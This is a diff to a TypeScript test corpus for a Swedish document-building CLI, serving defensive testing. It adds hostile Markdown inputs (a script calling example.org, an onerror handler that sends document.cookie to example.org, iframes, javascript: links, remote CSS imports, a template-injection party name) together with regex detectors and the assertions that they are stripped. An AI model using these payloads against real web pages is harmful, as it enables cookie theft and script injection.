@@ -1,6 +1,7 @@
 // The hostile-input corpus: each case makes its input in a fresh folder, runs the real CLI and
 // states the outcome it must have. docs/tillforlitlighet.md is generated from this list.
-import { mkdirSync, readFileSync, symlinkSync, writeFileSync, openSync, writeSync, closeSync } from 'node:fs';
+import { mkdirSync, readFileSync, symlinkSync, writeFileSync, openSync, writeSync, closeSync, existsSync, readdirSync } from 'node:fs';
+import { execFileSync } from 'node:child_process';
 import { join } from 'node:path';
 import { ROOT } from '../helpers/cli.js';
 
@@ -16,8 +17,10 @@ export interface HostileCase {
   exitCode: number;
   /** Must appear in stdout or stderr. */
   expect: RegExp;
-  /** Checked after the run, e.g. that nothing outside was read. */
-  after?(result: { stdout: string; stderr: string }): void;
+  /** Extra environment for the run (e.g. IOP_DEBUG_REQUESTS=1). */
+  env?: Record<string, string>;
+  /** Checked after the run, e.g. that nothing outside was read; `dir` is the case's folder. */
+  after?(result: { stdout: string; stderr: string; dir: string }): void;
 }
 
 const MINIMAL = join(ROOT, 'test/fixtures/minimal/iop.yaml');
@@ -37,6 +40,65 @@ function arende(dir: string, edit: (yaml: string) => string | Buffer = (y) => y)
 function check(folder: string): string[] {
   return ['check', folder, '--format', 'json'];
 }
+
+/** `iop build` of the folder into <dir>/ut, with the HTML too. */
+function build(folder: string, dir: string): string[] {
+  return ['build', folder, '--out', join(dir, 'ut'), '--html'];
+}
+
+/** Writes an ärende whose avtal.md carries `markdown` under a heading; returns the build arguments. */
+function avtalWith(markdown: string) {
+  return (dir: string): string[] => {
+    const folder = arende(dir);
+    writeFileSync(join(folder, 'avtal.md'), `## Bakgrund\n\nLäxhjälpen har funnits sedan 2019.\n\n${markdown}\n`);
+    return build(folder, dir);
+  };
+}
+
+/** Every file the build wrote, as text: HTML as written, PDFs through pdftotext. */
+function outputs(dir: string): Array<{ file: string; text: string }> {
+  const out = join(dir, 'ut', 'arende');
+  if (!existsSync(out)) throw new Error('no output was written');
+  return readdirSync(out).map((name) => {
+    const file = join(out, name);
+    const text = name.endsWith('.pdf') ? execFileSync('pdftotext', [file, '-'], { encoding: 'utf8' }) : readFileSync(file, 'utf8');
+    return { file: name, text };
+  });
+}
+
+const REMOTE = /(?:\b(?:src|href|srcset|action|data|poster)\s*=\s*["']?|url\(\s*["']?|@import\s+["']?)(?:https?:|ftp:)?\/\//i;
+
+/**
+ * What no output may carry, whatever the input: a script, an event handler attribute, a frame,
+ * a javascript: URL or a reference to anything outside the document; and the browser, which
+ * logs every request with IOP_DEBUG_REQUESTS=1, let nothing but data: URLs through.
+ */
+function assertInert(marker: RegExp) {
+  return ({ stderr, dir }: { stderr: string; dir: string }): void => {
+    const files = outputs(dir);
+    if (!files.some((f) => f.file === 'avtal.html') || !files.some((f) => f.file === 'avtal.pdf')) throw new Error('avtal.html and avtal.pdf were not both written');
+    for (const { file, text } of files) {
+      const problems = [
+        [/<script\b/i, 'a script element'],
+        [/<(?:iframe|frame|object|embed)\b/i, 'a frame or embedded object'],
+        [/<[a-z][^>]*\son[a-z]+\s*=/i, 'an event handler attribute'],
+        [/javascript:/i, 'a javascript: URL'],
+        [REMOTE, 'a remote URL'],
+        [marker, 'the remote host of the input'],
+      ] as const;
+      for (const [pattern, what] of problems) if (pattern.test(text)) throw new Error(`${file} contains ${what}`);
+    }
+    // Link targets and actions live in the PDF's objects, not in its text.
+    const raw = readFileSync(join(dir, 'ut', 'arende', 'avtal.pdf')).toString('latin1');
+    if (/\/(?:JavaScript|JS|Launch|SubmitForm|ImportData)\b/.test(raw)) throw new Error('avtal.pdf contains a script or launch action');
+    if (/\/URI\s*\((?:javascript:|[^)]*example\.org)/i.test(raw)) throw new Error('avtal.pdf links to a script or the remote host');
+    const through = stderr.split('\n').filter((line) => line.startsWith('iop-debug: begäran tillåten:') && !/tillåten: (?:data:|about:blank)/.test(line));
+    if (through.length > 0) throw new Error(`the browser let requests through: ${through.join('; ')}`);
+  };
+}
+
+const EXAMPLE = /example\.org/i;
+const DEBUG = { IOP_DEBUG_REQUESTS: '1' };
 
 function aliasBomb(): string {
   const lines = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]'];
@@ -205,6 +267,141 @@ export const HOSTILE_CASES: HostileCase[] = [
     expect: /pekar utanför ärendemappen/,
     after: ({ stdout }) => {
       if (stdout.includes('root:')) throw new Error('read /etc/passwd');
+    },
+  },
+  {
+    id: 'md-script',
+    input: 'avtal.md med ett `<script>`-element',
+    outcome: 'PDF och HTML byggs; skriptet tas bort (rå HTML i Markdown används aldrig).',
+    setup: avtalWith('<script>document.title = "kapad"; fetch("https://example.org/stjal")</script>'),
+    env: DEBUG,
+    exitCode: 0,
+    expect: /Skrev .*avtal\.pdf/,
+    after: assertInert(/kapad|example\.org/i),
+  },
+  {
+    id: 'md-onerror',
+    input: 'avtal.md med `<img src=x onerror=…>`',
+    outcome: 'Bilden och händelseattributet tas bort.',
+    setup: avtalWith('<img src=x onerror="fetch(\'https://example.org/\' + document.cookie)">'),
+    env: DEBUG,
+    exitCode: 0,
+    expect: /Skrev .*avtal\.pdf/,
+    after: assertInert(EXAMPLE),
+  },
+  {
+    id: 'md-iframe',
+    input: 'avtal.md med en `<iframe>` mot en extern webbplats',
+    outcome: 'Ramen tas bort; ingen begäran görs.',
+    setup: avtalWith('<iframe src="https://example.org/ram"></iframe>'),
+    env: DEBUG,
+    exitCode: 0,
+    expect: /Skrev .*avtal\.pdf/,
+    after: assertInert(EXAMPLE),
+  },
+  {
+    id: 'md-javascript-lank',
+    input: 'avtal.md med länken `[planen](javascript:alert(1))`',
+    outcome: 'Länktexten står kvar, adressen tas bort.',
+    setup: avtalWith('Läs [planen](javascript:alert(1)) och [den här](JaVaScRiPt:alert(2)).'),
+    env: DEBUG,
+    exitCode: 0,
+    expect: /Skrev .*avtal\.pdf/,
+    after: assertInert(/alert\(/),
+  },
+  {
+    id: 'md-fjarrbild',
+    input: 'avtal.md med en bild från en annan webbplats: `![x](https://example.org/a.png)`',
+    outcome: 'Bilden tas bort; bara inbäddade bilder (data:) används.',
+    setup: avtalWith('![Karta](https://example.org/a.png)\n\n![Spårare](//example.org/b.png)'),
+    env: DEBUG,
+    exitCode: 0,
+    expect: /Skrev .*avtal\.pdf/,
+    after: assertInert(EXAMPLE),
+  },
+  {
+    id: 'md-css-import',
+    input: 'avtal.md med `<style>@import url(https://…)</style>`',
+    outcome: 'Stilelementet tas bort; ingen begäran görs.',
+    setup: avtalWith('<style>@import url(https://example.org/a.css); body { background: url("https://example.org/b.png") }</style>'),
+    env: DEBUG,
+    exitCode: 0,
+    expect: /Skrev .*avtal\.pdf/,
+    after: assertInert(EXAMPLE),
+  },
+  {
+    id: 'md-style-url',
+    input: 'avtal.md med `style="background:url(https://…)"` på ett element',
+    outcome: 'Elementet och attributet tas bort; ingen begäran görs.',
+    setup: avtalWith('<p style="background:url(https://example.org/bg.png)">Stycke med bakgrund</p>\n\n<span style="background-image:url(//example.org/x.png)">text</span>'),
+    env: DEBUG,
+    exitCode: 0,
+    expect: /Skrev .*avtal\.pdf/,
+    after: assertInert(EXAMPLE),
+  },
+  {
+    id: 'partnamn-handlebars',
+    input: 'Ett partnamn som ser ut som en mall: `"{{#each parter}}x{{/each}}"`',
+    outcome: 'Namnet skrivs ut precis som det står; uppgifter är aldrig mallar. Inget fel: `text/referenser` granskar bara texterna, inte uppgifterna i iop.yaml.',
+    setup: (dir) => {
+      const folder = arende(dir, (y) => y.replace('namn: Föreningen Läxhjälpen i Kvarnby', 'namn: "{{#each parter}}x{{/each}} <b>Läxhjälpen</b>"'));
+      writeFileSync(join(folder, 'avtal.md'), '## Bakgrund\n\n{{part "laxhjalpen"}} ordnar läxhjälp.\n');
+      return build(folder, dir);
+    },
+    env: DEBUG,
+    exitCode: 0,
+    expect: /Skrev .*avtal\.pdf/,
+    after: (result) => {
+      assertInert(EXAMPLE)(result);
+      const pdf = outputs(result.dir).find((f) => f.file === 'avtal.pdf')!.text;
+      if (!pdf.includes('{{#each parter}}x{{/each}} <b>Läxhjälpen</b> ordnar läxhjälp')) throw new Error('the party name was not printed as written');
+      if (/\bxx\b/.test(pdf)) throw new Error('the party name was evaluated as a template');
+      const html = outputs(result.dir).find((f) => f.file === 'avtal.html')!.text;
+      if (html.includes('<b>Läxhjälpen</b>')) throw new Error('markup in the party name reached the HTML');
+    },
+  },
+  {
+    id: 'stilmall-fjarr',
+    input: 'En egen stilmall (i iop.config.yaml) som hämtar bakgrund och typsnitt från en annan webbplats',
+    outcome: 'PDF byggs; webbläsaren blockerar varje begäran utanför dokumentet.',
+    setup: (dir) => {
+      const folder = arende(dir);
+      writeFileSync(join(folder, 'iop.config.yaml'), 'stilmall: utskrift.css\n');
+      writeFileSync(
+        join(folder, 'utskrift.css'),
+        'body { background: url(https://example.org/bakgrund.png); }\n@font-face { font-family: Fjarr; src: url(https://example.org/typsnitt.woff2); }\nh1 { font-family: Fjarr; }\n',
+      );
+      return build(folder, dir);
+    },
+    env: DEBUG,
+    exitCode: 0,
+    expect: /begäran blockerad: https:\/\/example\.org\/bakgrund\.png/,
+    after: ({ stderr, dir }) => {
+      if (!stderr.includes('begäran blockerad: https://example.org/typsnitt.woff2')) throw new Error('the font request was not seen and blocked');
+      if (/begäran tillåten: (?!data:|about:blank)/.test(stderr)) throw new Error('a request got through');
+      const pdf = outputs(dir).find((f) => f.file === 'avtal.pdf')!.text;
+      if (EXAMPLE.test(pdf)) throw new Error('the PDF mentions the remote host');
+    },
+  },
+  {
+    id: 'mallar-utanfor',
+    input: '`mallar: ../utanfor` i iop.config.yaml, en mapp utanför konfigurationens mapp',
+    outcome: 'En rad: mallmappen ligger utanför (slutkod 2). Inget läses därifrån och ingen PDF skrivs.',
+    setup: (dir) => {
+      const repo = join(dir, 'repo');
+      const folder = join(repo, 'arende');
+      mkdirSync(folder, { recursive: true });
+      writeFileSync(join(folder, 'iop.yaml'), minimal());
+      writeFileSync(join(repo, 'iop.config.yaml'), 'mallar: ../utanfor\n');
+      mkdirSync(join(dir, 'utanfor'));
+      // A named pipe: reading it would block until the test's time limit, so a run that ends proves nothing was read.
+      execFileSync('mkfifo', [join(dir, 'utanfor', 'avtal.hbs')]);
+      return ['build', folder, '--out', join(dir, 'ut')];
+    },
+    exitCode: 2,
+    expect: /Mallmappen \.\.\/utanfor i iop\.config\.yaml ligger utanför mappen/,
+    after: ({ dir }) => {
+      if (existsSync(join(dir, 'ut'))) throw new Error('something was written');
     },
   },
 ];
